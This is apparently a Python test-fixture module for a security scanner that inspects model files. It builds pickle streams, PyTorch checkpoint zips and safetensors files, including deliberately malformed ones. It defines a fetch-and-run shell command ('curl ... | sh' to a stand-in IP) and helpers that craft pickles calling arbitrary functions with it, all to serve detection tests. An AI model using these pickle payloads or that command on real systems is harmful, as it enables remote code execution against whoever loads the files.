"""Making the files that the scanner's tests look at. Nothing here reads a pickle back."""

from __future__ import annotations

import io
import json
import pickle  # noqa: TID251 - written only; what is written is scanned, never loaded
import zipfile
from collections.abc import Callable
from typing import Any

from governance.scanning.engine import Report, scan
from governance.scanning.engine.reader import BytesReader

COMMAND = "curl -s http://203.0.113.18/s | sh"


class Calls:
    """Pickles as a call of ``function`` with ``arguments``, optionally with a state to be set afterwards."""

    def __init__(self, function: Callable[..., Any], *arguments: Any, state: Any = None) -> None:
        self.made = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self) -> Any:
        return self.made


def dumps(value: object, protocol: int = 4) -> bytes:
    return pickle.dumps(value, protocol)


def scan_bytes(content: bytes) -> Report:
    return scan(BytesReader(content))


def rules_of(report: Report) -> set[str]:
    return {finding.rule for finding in report.findings}


def text(value: str) -> bytes:
    """A string as an operand of protocol 4."""
    encoded = value.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(encoded)]) + encoded


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(module: str, name: str, argument: str = COMMAND) -> bytes:
    """A whole stream that calls one function with one string."""
    return b"\x80\x04" + stack_global(module, name) + text(argument) + b"\x85R."


def torch_zip(
    data: bytes, storages: dict[str, bytes], extra: dict[str, bytes] | None = None
) -> bytes:
    """A checkpoint laid out as torch.save does: stored members under one folder."""
    members = {
        "archive/data.pkl": data,
        "archive/byteorder": b"little",
        **{f"archive/data/{key}": content for key, content in storages.items()},
        "archive/version": b"3\n",
        "archive/.data/serialization_id": b"0636457737946401051300000020000000000000",
        **(extra or {}),
    }
    return zipped(members)


def torch_data(*storages: tuple[str, int]) -> bytes:
    """data.pkl with one tensor of n float32 items for each (key, n)."""
    tensors = b"".join(_tensor(key, count) for key, count in storages)
    return b"\x80\x02](" + tensors + b"e."


def _tensor(key: str, count: int) -> bytes:
    encoded = key.encode()
    pid = (
        b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX"
        + len(encoded).to_bytes(4, "little")
        + encoded
        + b"X\x03\x00\x00\x00cpuJ"
        + count.to_bytes(4, "little")
        + b"tQ"
    )
    size = b"J" + count.to_bytes(4, "little") + b"\x85"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + b"K\x00" + size + b"K\x01\x85\x89)tR"


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def safetensors(
    header: dict[str, Any] | str, body: bytes = b"", *, length: int | None = None
) -> bytes:
    """A safetensors file; ``length`` lies about the header when it is given."""
    encoded = (header if isinstance(header, str) else json.dumps(header)).encode()
    return (len(encoded) if length is None else length).to_bytes(8, "little") + encoded + body


def tensor(
    begin: int, end: int, *, dtype: str = "F32", shape: list[int] | None = None
) -> dict[str, Any]:
    return {
        "dtype": dtype,
        "shape": [(end - begin) // 4] if shape is None else shape,
        "data_offsets": [begin, end],
    }
